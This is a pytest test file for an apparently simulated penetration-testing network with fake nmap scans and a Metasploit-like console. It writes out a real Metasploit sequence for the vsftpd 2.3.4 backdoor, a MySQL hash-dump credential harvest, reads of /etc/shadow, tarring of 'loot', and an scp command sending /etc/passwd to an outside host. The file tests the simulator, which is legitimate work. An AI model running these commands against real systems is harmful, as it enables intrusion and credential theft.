import pytest
import yaml

from redchain.netsim import (
    Effect,
    ScenarioError,
    Session,
    SessionState,
    builtin_network,
    builtin_scenario_names,
    load_network,
    output_is_error,
    sim_console,
    sim_scan,
    sim_shell_read,
    single_service,
)

FIG3_COMMANDS = [
    "use exploit/unix/ftp/vsftpd_234_backdoor",
    "set RHOSTS 172.16.2.3",
    "set payload cmd/unix/interact",
    "exploit",
]


def test_scan_reports_single_spaced_service_lines():
    net = builtin_network("metasploitable-like")
    output = sim_scan(net, "nmap -sV 172.16.2.3")
    assert "21/tcp open ftp vsftpd 2.3.4" in output
    assert "22/tcp open ssh OpenSSH 4.7p1" in output
    assert "3306/tcp open mysql MySQL 5.0.51a" in output
    assert "Host is up" in output


def test_scan_of_unknown_ip_reports_host_down():
    net = builtin_network("metasploitable-like")
    output = sim_scan(net, "nmap -sV 10.9.9.9")
    assert "seems down" in output
    assert "0 hosts up" in output


def test_scan_no_ports_scenario():
    net = builtin_network("no-ports")
    output = sim_scan(net, "nmap -sV 172.16.2.3")
    assert "0 open ports" in output
    assert "/tcp open" not in output


def test_scan_is_deterministic():
    net = builtin_network("metasploitable-like")
    assert sim_scan(net, "nmap -sV 172.16.2.3") == sim_scan(net, "nmap -sV 172.16.2.3")


def test_correct_exploit_sequence_opens_root_session():
    net = single_service("vsftpd 2.3.4")
    state = SessionState()
    output, state = sim_console(net, state, FIG3_COMMANDS)
    assert "Command shell session 1 opened" in output
    assert state.sessions[1].privilege == "root"
    assert not output_is_error(output)


def test_unknown_module_is_inband_error():
    net = single_service("vsftpd 2.3.4")
    output, _ = sim_console(net, SessionState(), ["use exploit/multi/ssh/sshexec"])
    assert "[-] Failed to load module: exploit/multi/ssh/sshexec" in output
    assert output_is_error(output)


def test_set_before_use_is_inband_error():
    net = single_service("vsftpd 2.3.4")
    output, _ = sim_console(net, SessionState(), ["set RHOSTS 172.16.2.3"])
    assert output_is_error(output)


def test_exploit_against_absent_service_yields_no_session():
    net = single_service("OpenSSH 4.7")
    state = SessionState()
    output, state = sim_console(net, state, FIG3_COMMANDS)
    assert "no session was created" in output
    assert state.sessions == {}


def test_credential_leak_module_harvests_without_session():
    net = single_service("MySQL 5.0.51")
    cmds = ["use auxiliary/scanner/mysql/mysql_hashdump", "set RHOSTS 172.16.2.3", "run"]
    output, state = sim_console(net, SessionState(), cmds)
    assert "Credentials harvested" in output
    assert state.sessions == {}


def test_effect_none_module_never_grants_access():
    net = single_service("Telnet")
    cmds = ["use auxiliary/scanner/telnet/telnet_login", "set RHOSTS 172.16.2.3", "run"]
    output, state = sim_console(net, SessionState(), cmds)
    assert "no session was created" in output
    assert state.sessions == {}


def test_session_interaction_and_file_reads():
    net = single_service("vsftpd 2.3.4")
    state = SessionState()
    _, state = sim_console(net, state, FIG3_COMMANDS)
    output, state = sim_console(
        net, state, ["sessions -i 1", "whoami", "cat /etc/passwd", "cat /etc/shadow"]
    )
    assert "root" in output.splitlines()
    assert "msfadmin:x:1000" in output
    assert "root:$1$" in output  # shadow readable as root


def test_shadow_denied_without_root():
    net = single_service("vsftpd 2.3.4")
    session = Session(host_ip="172.16.2.3", privilege="user")
    assert "Permission denied" in sim_shell_read(net, session, "/etc/shadow")
    assert "No such file" in sim_shell_read(net, session, "/etc/nothing")
    assert "msfadmin" in sim_shell_read(net, session, "/etc/passwd")


def test_exfil_tools_refused_and_unknown_prog_not_found():
    net = single_service("vsftpd 2.3.4")
    state = SessionState()
    _, state = sim_console(net, state, FIG3_COMMANDS + ["sessions -i 1"])
    output, _ = sim_console(net, state, ["scp /etc/passwd me@10.0.0.1:", "frobnicate"])
    assert "Connection refused" in output
    assert "frobnicate: not found" in output


def test_invalid_session_identifier():
    net = single_service("vsftpd 2.3.4")
    output, _ = sim_console(net, SessionState(), ["sessions -i 9"])
    assert "Invalid session identifier" in output


def test_tar_archives_and_ls_lists_them():
    net = single_service("vsftpd 2.3.4")
    state = SessionState()
    _, state = sim_console(net, state, FIG3_COMMANDS + ["sessions -i 1"])
    output, state = sim_console(
        net, state, ["tar -cf /tmp/loot.tar /etc/passwd /etc/shadow", "ls /tmp"]
    )
    assert "a etc/passwd" in output
    assert "loot.tar" in output


def test_search_lists_matching_modules():
    net = builtin_network("metasploitable-like")
    output, _ = sim_console(net, SessionState(), ["search vsftpd"])
    assert "exploit/unix/ftp/vsftpd_234_backdoor" in output


# --- soundness: exhaustive over (module, service) pairs ----------------------


def test_session_opened_iff_exploit_matches_and_grants_shell():
    """Brute force every exploit module against every single-service scenario."""
    catalog_net = builtin_network("metasploitable-like")
    modules = sorted(catalog_net.exploit_db)
    scenario_names = [n for n in builtin_scenario_names() if n.startswith("single-")]
    checked = 0
    for name in scenario_names:
        net = builtin_network(name)
        service = net.hosts[0].services[0]
        for module in modules:
            entry = net.exploit_db[module]
            state = SessionState()
            cmds = [f"use {module}", "set RHOSTS 172.16.2.3", "exploit"]
            output, state = sim_console(net, state, cmds)
            should_open = entry.matches(service) and entry.effect in (
                Effect.ROOT_SHELL,
                Effect.USER_SHELL,
            )
            assert bool(state.sessions) == should_open, (name, module)
            if should_open:
                privilege = "root" if entry.effect is Effect.ROOT_SHELL else "user"
                assert state.sessions[1].privilege == privilege
            checked += 1
    assert checked == len(modules) * len(scenario_names)


def test_fig3_sequence_never_opens_session_on_non_vsftpd_hosts():
    for name in builtin_scenario_names():
        if name == "single-vsftpd-2.3.4":
            continue
        net = builtin_network(name)
        if any(
            svc.product == "vsftpd" for h in net.hosts for svc in h.services
        ):
            continue
        _, state = sim_console(net, SessionState(), FIG3_COMMANDS)
        assert state.sessions == {}, name


def test_shadow_readable_iff_root_everywhere():
    for name in builtin_scenario_names():
        net = builtin_network(name)
        for host in net.hosts:
            root = Session(host_ip=host.ip, privilege="root")
            user = Session(host_ip=host.ip, privilege="user")
            assert "Permission denied" not in sim_shell_read(net, root, "/etc/shadow")
            assert "Permission denied" in sim_shell_read(net, user, "/etc/shadow")


# --- scenario file loading and validation ------------------------------------


def _scenario_dict():
    return {
        "name": "custom",
        "hosts": [
            {
                "name": "t",
                "ip": "10.0.0.2",
                "services": [
                    {"port": 21, "name": "ftp", "product": "vsftpd",
                     "version": "2.3.4", "vulnerabilities": ["V1"]}
                ],
            }
        ],
        "exploits": {
            "exploit/x": {
                "requires": {"product": "vsftpd", "version": "2.3.4"},
                "payloads": ["p"],
                "effect": "RootShell",
                "vulnerability_id": "V1",
            }
        },
    }


def test_load_network_from_yaml(tmp_path):
    path = tmp_path / "net.yaml"
    path.write_text(yaml.safe_dump(_scenario_dict()), encoding="utf-8")
    net = load_network(str(path))
    assert net.hosts[0].ip == "10.0.0.2"
    assert net.orphan_vulnerabilities == ()


def test_duplicate_ips_rejected(tmp_path):
    data = _scenario_dict()
    data["hosts"].append(dict(data["hosts"][0]))
    path = tmp_path / "net.yaml"
    path.write_text(yaml.safe_dump(data), encoding="utf-8")
    with pytest.raises(ScenarioError, match="duplicate host IP"):
        load_network(str(path))


def test_vulnerability_covered_twice_rejected(tmp_path):
    data = _scenario_dict()
    data["exploits"]["exploit/y"] = dict(data["exploits"]["exploit/x"])
    path = tmp_path / "net.yaml"
    path.write_text(yaml.safe_dump(data), encoding="utf-8")
    with pytest.raises(ScenarioError, match="V1"):
        load_network(str(path))


def test_orphan_vulnerabilities_collected(tmp_path):
    data = _scenario_dict()
    data["exploits"] = {}
    path = tmp_path / "net.yaml"
    path.write_text(yaml.safe_dump(data), encoding="utf-8")
    net = load_network(str(path))
    assert net.orphan_vulnerabilities == ("V1",)


def test_unknown_builtin_scenario():
    with pytest.raises(ScenarioError):
        builtin_network("does-not-exist")
